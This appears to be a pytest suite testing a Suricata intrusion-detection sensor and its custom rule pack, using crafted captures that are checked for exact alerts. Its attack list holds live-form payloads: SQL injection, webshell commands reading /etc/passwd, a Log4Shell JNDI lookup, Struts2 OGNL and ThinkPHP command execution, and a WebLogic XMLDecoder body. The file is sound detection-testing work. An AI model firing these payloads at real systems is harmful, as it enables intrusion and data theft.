"""The Suricata sensor with the real ``suricata`` binary: rule pack, offline runs, EVE parsing, supervision.

One capture holds every crafted flow (Suricata starts take seconds): attacks from their own
client address each, so an alert's source and destination say which flow raised it, and two
benign flows from 203.0.113.10 that must raise nothing from our pack.
"""

from __future__ import annotations

import datetime as dt
import json
import shutil
import stat
import struct
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from corpus_support import CORPUS
from pcap_support import SECOND, T0, ether, ipv4, pcap, tcp_conversation, tcp_session, udp

from collectors.parse import parse_record
from collectors.traffic import suricata
from collectors.traffic.suricata import (
    MISSING_BINARY,
    SHIPPED_RULES,
    SensorConfig,
    SensorError,
    SuricataSensor,
    check_rules,
    run_offline,
    verify_rules,
    write_config,
)
from soc_core.records import RawRecord

SURICATA = shutil.which("suricata")
if SURICATA is None:
    print("suricata is not installed: skipping the sensor tests (install it from bookworm-backports)")
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(SURICATA is None, reason="suricata is not installed (CI installs it from backports)"),
]

WEB = "192.0.2.80"
TELNET_HOST = "192.0.2.23"
FILE_SERVER = "192.0.2.20"
RESOLVER = "192.0.2.53"
BENIGN_CLIENT = "203.0.113.10"
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"
RESPONSE = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 2\r\n\r\nok"
RECEIVED_AT = dt.datetime(2026, 11, 27, 8, 0, tzinfo=dt.UTC).timestamp()


def http_request(
    target: str,
    *,
    method: str = "GET",
    user_agent: str = BROWSER,
    headers: tuple[tuple[str, str], ...] = (),
    body: bytes = b"",
    content_type: str = "application/x-www-form-urlencoded",
) -> bytes:
    lines = [f"{method} {target} HTTP/1.1", "Host: portal.example.org", f"User-Agent: {user_agent}"]
    lines += [f"{name}: {value}" for name, value in headers]
    if method == "POST":
        lines += [f"Content-Type: {content_type}", f"Content-Length: {len(body)}"]
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def dns_query(name: str, *, qtype: int = 1, ident: int = 0x1234) -> bytes:
    labels = b"".join(bytes((len(label),)) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + labels + b"\x00" + struct.pack("!HH", qtype, 1)


def syn(src: str, dst: str, sport: int, dport: int, *, window: int) -> bytes:
    header = struct.pack("!HHIIBBHHH", sport, dport, 7000, 0, 5 << 4, 0x02, window, 0, 0)
    return ether(ipv4(src, dst, 6, header))


@dataclass(frozen=True)
class Case:
    name: str
    client: str
    frames: list[tuple[int, bytes]]
    # (sid, source, destination) of every alert the flow must raise from our pack, exactly
    alerts: frozenset[tuple[int, str, str]]


def _http_case(name: str, index: int, request: bytes, sids: set[int]) -> Case:
    client = f"198.51.100.{10 + index}"
    frames = tcp_session(client, WEB, 40000 + index, 80, request, RESPONSE, t0=T0 + index * SECOND)
    return Case(name, client, frames, frozenset((sid, client, WEB) for sid in sids))


CHOPPER_BODY = (
    b"z=%40eval%01%28base64_decode%28%24_POST%5Bz0%5D%29%29%3B"
    b"&z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpOw%3D%3D"
)
STRUTS_CONTENT_TYPE = (
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)"
    ".(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}"
)
WLS_BODY = (
    b'<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
    b'<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">'
    b'<java class="java.beans.XMLDecoder">'
    b"</java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>"
)
HTTP_ATTACKS: list[tuple[str, bytes, set[int]]] = [
    (
        "sqli union select",
        http_request("/news.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"),
        {9100101},
    ),
    ("sqli tautology in uri", http_request("/login.php?user=admin%27%20or%201=1--&pw=x"), {9100102}),
    (
        "sqli tautology in body",
        http_request("/login.php", method="POST", body=b"user=admin%27+or+%271%27%3D%271&pass=x"),
        {9100103},
    ),
    ("sqli sleep", http_request("/item.php?id=1%20AND%20SLEEP(5)"), {9100104}),
    (
        "sqli information_schema",
        http_request("/item.php?id=1+and+1=(select+count(*)+from+information_schema.tables)"),
        {9100105},
    ),
    ("sqli xp_cmdshell", http_request("/item.asp?id=1;exec%20master..xp_cmdshell%20'dir'--"), {9100106}),
    ("webshell chopper", http_request("/upload/images/1.php", method="POST", body=CHOPPER_BODY), {9100201}),
    ("webshell whoami", http_request("/shell.php?cmd=whoami"), {9100204, 9100208}),
    ("webshell cat passwd", http_request("/cmd.jsp?cmd=cat+/etc/passwd"), {9100203, 9100209, 9100304}),
    (
        "webshell godzilla",
        http_request(
            "/uploads/avatar.php",
            method="POST",
            headers=(("Cookie", "PHPSESSID=4f7ab2c1d0e9;"),),
            body=b"pass=R0YEcAUHAQ%3D%3D",
        ),
        {9100207},
    ),
    ("traversal dots", http_request("/download.php?file=../../../../etc/passwd"), {9100301, 9100304}),
    ("traversal encoded", http_request("/static/%2e%2e%2f%2e%2e%2fetc/shadow"), {9100302, 9100304}),
    (
        "log4shell header",
        http_request("/", headers=(("X-Api-Version", "${jndi:ldap://203.0.113.99:1389/a}"),)),
        {9100702},
    ),
    (
        "sqlmap user agent",
        http_request("/item.php?id=1", user_agent="sqlmap/1.7.2#stable (https://sqlmap.org)"),
        {9100403},
    ),
    (
        "nikto user agent",
        http_request("/", user_agent="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"),
        {9100404},
    ),
    (
        "go client on tomcat manager",
        http_request("/manager/html", user_agent="Go-http-client/1.1"),
        {9100501},
    ),
    (
        "struts2 content type",
        http_request("/index.action", method="POST", content_type=STRUTS_CONTENT_TYPE, body=b"a=1"),
        {9100711},
    ),
    (
        "thinkphp invokefunction",
        http_request(
            "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array"
            "&vars[0]=system&vars[1][]=whoami"
        ),
        {9100721, 9100208},
    ),
    (
        "weblogic wls-wsat",
        http_request("/wls-wsat/CoordinatorPortType", method="POST", body=WLS_BODY, content_type="text/xml"),
        {9100731},
    ),
    ("weaver beanshell", http_request("/weaver/bsh.servlet.BshServlet"), {9100741}),
    ("seeyon htmlofficeservlet", http_request("/seeyon/htmlofficeservlet"), {9100751}),
    (
        "tongda upload",
        http_request("/ispirit/im/upload.php", method="POST", body=b"P=1&DEST_UID=1"),
        {9100761},
    ),
]


def _cases() -> list[Case]:
    cases = [_http_case(name, i, request, sids) for i, (name, request, sids) in enumerate(HTTP_ATTACKS)]
    base = len(cases)

    tunnel_client = "198.51.100.101"
    label = "6b7a9f3c2d1e0a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f"
    name = f"{label}.{label[::-1]}.{label[3:]}.t.example.com"
    query = ether(ipv4(tunnel_client, RESOLVER, 17, udp(53001, 53, dns_query(name))))
    cases.append(
        Case(
            "dns tunnel name",
            tunnel_client,
            [(T0 + base * SECOND, query)],
            frozenset({(9100601, tunnel_client, RESOLVER), (9100602, tunnel_client, RESOLVER)}),
        )
    )

    flood_client = "198.51.100.102"
    flood = [
        (
            T0 + (base + 1) * SECOND + i * 5_000_000,
            ether(
                ipv4(flood_client, RESOLVER, 17, udp(54000 + i, 53, dns_query(f"q{i}.example.org", qtype=16)))
            ),
        )
        for i in range(120)
    ]
    cases.append(Case("dns txt flood", flood_client, flood, frozenset({(9100603, flood_client, RESOLVER)})))

    scanner = "198.51.100.103"
    sweep = [
        (T0 + (base + 2) * SECOND + i * 1_000_000, syn(scanner, WEB, 61000, 1 + i, window=1024))
        for i in range(120)
    ]
    cases.append(
        Case("syn scan", scanner, sweep, frozenset({(9100410, scanner, WEB), (9100411, scanner, WEB)}))
    )

    smb_client = "198.51.100.104"
    smb = [(T0 + (base + 3) * SECOND, syn(smb_client, FILE_SERVER, 49500, 445, window=64240))]
    cases.append(
        Case("smb across the boundary", smb_client, smb, frozenset({(9100801, smb_client, FILE_SERVER)}))
    )

    telnet_client = "198.51.100.105"
    telnet = tcp_conversation(
        telnet_client,
        TELNET_HOST,
        49600,
        23,
        [("s", b"\r\nrouter-01 login: "), ("c", b"admin\r\n"), ("s", b"Password: ")],
        t0=T0 + (base + 4) * SECOND,
    )
    cases.append(
        Case(
            "telnet login",
            telnet_client,
            telnet,
            frozenset({(9100811, TELNET_HOST, telnet_client), (9100812, TELNET_HOST, telnet_client)}),
        )
    )

    benign_get = tcp_session(
        BENIGN_CLIENT, WEB, 50000, 80, http_request("/index.html"), RESPONSE, t0=T0 + (base + 5) * SECOND
    )
    benign_dns = [
        (
            T0 + (base + 6) * SECOND,
            ether(ipv4(BENIGN_CLIENT, RESOLVER, 17, udp(50001, 53, dns_query("www.example.com")))),
        )
    ]
    cases.append(Case("benign get", BENIGN_CLIENT, benign_get, frozenset()))
    cases.append(Case("benign dns", BENIGN_CLIENT, benign_dns, frozenset()))
    return cases


CASES = _cases()


@dataclass(frozen=True)
class OfflineRun:
    eve: Path
    lines: list[str]
    records: list[dict[str, Any]]

    @property
    def alerts(self) -> list[dict[str, Any]]:
        return [r for r in self.records if r.get("event_type") == "alert"]


@pytest.fixture(scope="module")
def crafted_run(tmp_path_factory: pytest.TempPathFactory) -> OfflineRun:
    folder = tmp_path_factory.mktemp("crafted")
    capture = folder / "crafted.pcap"
    frames = sorted((frame for case in CASES for frame in case.frames), key=lambda f: f[0])
    capture.write_bytes(pcap(frames))
    eve = run_offline(SensorConfig(workdir=folder / "sensor"), capture)
    lines = [line for line in eve.read_text(encoding="utf-8").splitlines() if line.strip()]
    return OfflineRun(eve, lines, [json.loads(line) for line in lines])


def _rule_lines(path: Path) -> list[str]:
    return [
        line
        for line in path.read_text(encoding="utf-8").splitlines()
        if line.strip() and not line.startswith("#")
    ]


# -- (1) the shipped pack loads -------------------------------------------------------------------


def test_shipped_pack_loads_every_rule(tmp_path: Path) -> None:
    config = SensorConfig(workdir=tmp_path)
    report = verify_rules(config)
    rules = _rule_lines(SHIPPED_RULES)
    assert report.problems == []
    assert (report.loaded, report.failed) == (len(rules), 0)
    assert check_rules(config) == []
    warnings = [line for line in (tmp_path / "suricata.log").read_text().splitlines() if "Warning" in line]
    assert [w for w in warnings if "rule 91" in w or "shaowang" in w] == []


def test_shipped_pack_conventions() -> None:
    rules = _rule_lines(SHIPPED_RULES)
    assert len(rules) >= 20
    sids = [int(r.split("sid:")[1].split(";")[0]) for r in rules]
    assert len(set(sids)) == len(sids)
    assert all(9100001 <= sid <= 9109999 for sid in sids)
    classtypes = {
        line.split(":", 1)[1].split(",")[0].strip()
        for line in Path("/etc/suricata/classification.config").read_text().splitlines()
        if line.startswith("config classification:")
    }
    for rule in rules:
        assert 'msg:"SHAOWANG ' in rule, rule
        assert "metadata:created_at 2026_11_27, shaowang_category " in rule, rule
        assert rule.split("classtype:")[1].split(";")[0] in classtypes, rule


def test_pack_loads_without_the_stock_classification(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(suricata, "STOCK_CONFIG_DIR", tmp_path / "no-etc-suricata")
    config = SensorConfig(workdir=tmp_path / "w")
    report = verify_rules(config)
    assert (report.problems, report.failed) == ([], 0)
    text = (tmp_path / "w" / "suricata.yaml").read_text()
    assert f'classification-file: "{tmp_path / "w" / "classification.config"}"' in text


def test_config_is_ours(tmp_path: Path) -> None:
    config = SensorConfig(workdir=tmp_path / "w", bpf="not port 22")
    text = write_config(config).read_text()
    assert text.startswith("%YAML 1.1\n---\n")
    assert f'default-log-dir: "{(tmp_path / "w").resolve()}"' in text
    assert f'  - "{SHIPPED_RULES}"' in text
    assert "unix-command:\n  enabled: no" in text
    assert "checksum-validation: no" in text


# -- (2) crafted attacks raise exactly their alerts; benign traffic none --------------------------


def _alert_keys(run: OfflineRun) -> set[tuple[int, str, str]]:
    return {(a["alert"]["signature_id"], a["src_ip"], a["dest_ip"]) for a in run.alerts}


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_crafted_flow_alerts(crafted_run: OfflineRun, case: Case) -> None:
    raised = {key for key in _alert_keys(crafted_run) if case.client in key[1:]}
    assert raised == case.alerts


def test_http_and_dns_were_seen(crafted_run: OfflineRun) -> None:
    # the benign flows were decoded (so "no alert" means something)
    types = {(r["event_type"], r.get("src_ip")) for r in crafted_run.records}
    assert ("http", BENIGN_CLIENT) in types
    assert ("dns", BENIGN_CLIENT) in types
    http = [r for r in crafted_run.records if r["event_type"] == "http" and r["src_ip"] == BENIGN_CLIENT]
    assert http[0]["http"]["url"] == "/index.html"
    assert http[0]["http"]["http_user_agent"] == BROWSER


def test_alert_metadata_in_eve(crafted_run: OfflineRun) -> None:
    alert = next(a for a in crafted_run.alerts if a["alert"]["signature_id"] == 9100702)
    assert alert["alert"]["signature"].startswith("SHAOWANG EXPLOIT Log4Shell")
    assert alert["alert"]["category"] == "Attempted Administrator Privilege Gain"
    assert alert["alert"]["metadata"]["shaowang_category"] == ["exploit"]
    assert alert["alert"]["metadata"]["created_at"] == ["2026_11_27"]
    assert alert["http"]["hostname"] == "portal.example.org"


# -- (3) the EVE lines parse with ``suricata.eve`` ------------------------------------------------


def _parse_lines(eve: Path, lines: list[str]) -> Iterator[tuple[str, Any]]:
    for number, line in enumerate(lines, start=1):
        record = RawRecord(
            data=line.encode(),
            received_at=RECEIVED_AT,
            origin=f"file:{eve}",
            offset=number,
            hint="suricata.eve",
        )
        yield line, parse_record(record, fmt="suricata.eve")


def test_eve_lines_parse(crafted_run: OfflineRun) -> None:
    alerts = 0
    for line, outcome in _parse_lines(crafted_run.eve, crafted_run.lines):
        assert outcome.dead_letter is None, (line, outcome.dead_letter.to_json())
        assert len(outcome.events) == 1
        raw = json.loads(line)
        doc = json.loads(outcome.events[0].to_json())
        assert doc["event"]["dataset"] == "suricata.eve"
        if raw["event_type"] != "alert":
            continue
        alerts += 1
        assert doc["event"]["kind"] == "alert"
        assert "intrusion_detection" in doc["event"]["category"]
        assert doc["rule"]["id"] == str(raw["alert"]["signature_id"])
        assert doc["rule"]["name"] == raw["alert"]["signature"]
        assert doc["source"]["ip"] == raw["src_ip"]
        assert doc["destination"]["ip"] == raw["dest_ip"]
    assert alerts == len(crafted_run.alerts) > 0


# -- (4) supervision, bad rules, missing binary ---------------------------------------------------


def test_sensor_runs_a_capture_to_its_end(tmp_path: Path) -> None:
    capture = tmp_path / "one.pcap"
    capture.write_bytes(pcap(CASES[0].frames))
    sensor = SuricataSensor(SensorConfig(workdir=tmp_path / "sensor", pcap=capture))
    assert sensor.status()["state"] == "stopped"
    assert sensor.start()
    assert sensor.status()["pid"] is not None
    assert sensor.wait(timeout_s=120) == 0
    sensor.watch()  # a finished capture run is not restarted
    status = sensor.status()
    assert status["state"] == "stopped"
    assert status["restarts"] == 0
    assert status["last_exit_code"] == 0
    assert status["pid"] is None
    assert status["eve_path"] == str(sensor.eve_path)
    assert status["eve_size"] == sensor.eve_path.stat().st_size > 0
    sids = {json.loads(line).get("alert", {}).get("signature_id") for line in sensor.eve_path.open()}
    assert 9100101 in sids


def test_sensor_stop_ends_cleanly(tmp_path: Path) -> None:
    capture = tmp_path / "one.pcap"
    capture.write_bytes(pcap(CASES[0].frames))
    sensor = SuricataSensor(SensorConfig(workdir=tmp_path / "sensor", pcap=capture))
    assert sensor.start()
    assert sensor.running
    sensor.stop(timeout_s=30)
    assert not sensor.running
    status = sensor.status()
    assert status["state"] == "stopped"
    assert status["pid"] is None
    assert status["last_exit_code"] in (0, -15)


def test_sensor_without_capture_source_is_disabled(tmp_path: Path) -> None:
    sensor = SuricataSensor(SensorConfig(workdir=tmp_path))
    assert not sensor.start()
    assert sensor.status()["state"] == "disabled"


def test_bad_rule_names_file_and_line(tmp_path: Path) -> None:
    rules = tmp_path / "local.rules"
    rules.write_text(
        "# local additions\n"
        'alert http any any -> any any (msg:"SHAOWANG fine"; http.uri; content:"/ok"; sid:9109001; rev:1;)\n'
        'alert http any any -> any any (msg:"SHAOWANG broken"; http.uri; contnt:"/x"; sid:9109002; rev:1;)\n'
    )
    problems = check_rules(SensorConfig(workdir=tmp_path / "w", rules=[rules]))
    located = [p for p in problems if f"from file {rules} at line 3" in p]
    assert len(located) == 1 and "9109002" in located[0]
    assert any("contnt" in p for p in problems)


def test_missing_rule_file(tmp_path: Path) -> None:
    absent = tmp_path / "absent.rules"
    assert check_rules(SensorConfig(workdir=tmp_path, rules=[absent])) == [
        f"rule file {absent} does not exist"
    ]


def test_missing_binary_gives_the_clear_message(tmp_path: Path) -> None:
    config = SensorConfig(
        workdir=tmp_path, binary=str(tmp_path / "no-such-suricata"), pcap=tmp_path / "x.pcap"
    )
    assert check_rules(config) == [MISSING_BINARY]
    with pytest.raises(SensorError, match="apt-get install -t bookworm-backports suricata"):
        run_offline(config, tmp_path / "x.pcap")
    sensor = SuricataSensor(config)
    assert not sensor.start()
    status = sensor.status()
    assert (status["state"], status["last_error"]) == ("failed", MISSING_BINARY)


def test_offline_failure_carries_the_log_tail(tmp_path: Path) -> None:
    capture = tmp_path / "garbage.pcap"
    capture.write_bytes(b"this is not a capture file")
    with pytest.raises(SensorError, match="suricata reported errors on") as failure:
        run_offline(SensorConfig(workdir=tmp_path / "w"), capture)
    assert "pcap: unknown file format" in str(failure.value)


def test_watch_restarts_a_crashed_sensor_with_backoff(tmp_path: Path) -> None:
    # a stand-in for a sensor that dies at once on its interface: the backoff needs a clock we
    # control, not a live capture
    crashing = tmp_path / "crashing-suricata"
    crashing.write_text('#!/bin/sh\necho "Error: af-packet: shaowang-test0: failed to open socket"\nexit 1\n')
    crashing.chmod(crashing.stat().st_mode | stat.S_IXUSR)
    now = [1000.0]
    sensor = SuricataSensor(
        SensorConfig(workdir=tmp_path / "w", binary=str(crashing), interface="shaowang-test0"),
        clock=lambda: now[0],
    )
    assert sensor.start()
    delays = []
    for _ in range(8):
        assert sensor.wait(timeout_s=30) == 1
        sensor.watch()
        assert sensor.status()["state"] == "failed"
        assert sensor.status()["last_error"] == "Error: af-packet: shaowang-test0: failed to open socket"
        before = sensor.restart_count
        waited = 0.0
        while sensor.restart_count == before:
            now[0] += 0.5
            waited += 0.5
            sensor.watch()
        delays.append(waited)
    assert delays == [1.0, 2.0, 4.0, 8.0, 16.0, 32.0, 60.0, 60.0]
    assert sensor.restart_count == 8
    sensor.stop()
    assert sensor.status()["state"] == "stopped"


# -- corpus sanity run (no assertions on the corpus' own traffic) ---------------------------------


def test_pack_over_corpus_captures(tmp_path: Path) -> None:
    folder = CORPUS / "suricata-verify" / "tests"
    names = ("http-protocol-nodup", "smb-eicar-file", "datasets-04-http-dns", "http-urldecode-body")
    captures = [next(iter(sorted((folder / name).glob("*.pcap"))), None) for name in names]
    present = [c for c in captures if c is not None]
    if not present:
        pytest.skip(f"shared corpus not available: {folder}")
    for capture in present:
        eve = run_offline(SensorConfig(workdir=tmp_path / capture.parent.name), capture)
        kinds: Counter[str] = Counter()
        sids: Counter[int] = Counter()
        for line in eve.read_text().splitlines():
            record = json.loads(line)
            kinds[record["event_type"]] += 1
            if record["event_type"] == "alert":
                sids[record["alert"]["signature_id"]] += 1
        print(f"{capture.parent.name}: events {dict(sorted(kinds.items()))}, our alerts {dict(sids)}")


def test_soc_run_supervises_suricata_and_its_alerts_reach_the_store(tmp_path: Path) -> None:
    from pcap_support import tcp_session

    from soc_api.testing import PlatformProcess, add_user, search_count, wait_for

    attack = http_request("/login.php?user=admin%27%20or%201=1--&pw=x")
    benign = http_request("/index.html")
    frames = tcp_session("203.0.113.66", WEB, 41000, 80, attack, RESPONSE)
    frames += tcp_session(BENIGN_CLIENT, WEB, 41001, 80, benign, RESPONSE, t0=frames[-1][0] + 10**9)
    capture = tmp_path / "mirror.pcap"
    capture.write_bytes(pcap(frames))
    data_dir = tmp_path / "data"
    add_user(data_dir, "ana", "analyst")
    env = {
        "SOC_SURICATA__ENABLED": "true",
        "SOC_SURICATA__PCAP": str(capture),
        "SOC_SURICATA__WATCH_INTERVAL_S": "0.5",
        "SOC_SURICATA__HOME_NET": "[192.0.2.0/24]",  # the web server under attack is ours
    }
    with PlatformProcess(data_dir, env=env) as soc:
        alerts = "event.dataset:suricata.eve AND event.kind:alert"
        wait_for(lambda: search_count(data_dir, alerts) >= 1, timeout=120, interval=0.5)
        soc.login("ana")
        status = wait_for(lambda: (s := soc.stats()["suricata"])["state"] == "stopped" and s, timeout=60)
        print(f"suricata status in /api/v1/stats/ingest: {status}")
        assert status["mode"] == "pcap" and status["last_exit_code"] == 0 and status["eve_size"] > 0
        assert search_count(data_dir, alerts) == 1
        assert search_count(data_dir, f"{alerts} AND rule.id:9100102 AND source.ip:203.0.113.66") == 1
        assert search_count(data_dir, f"{alerts} AND source.ip:{BENIGN_CLIENT}") == 0
        # Suricata's protocol records of both flows come in too, through the same file
        assert search_count(data_dir, "event.dataset:suricata.eve AND http.request.method:GET") >= 2
        page = soc.get("/api/v1/events", q=f"{alerts}", limit=5)
        (alert,) = page["events"]
        assert "intrusion_detection" in alert["event"]["category"]
        assert alert["destination"]["ip"] == WEB and alert["url"]["original"].startswith("/login.php")
        assert soc.stop() == 0
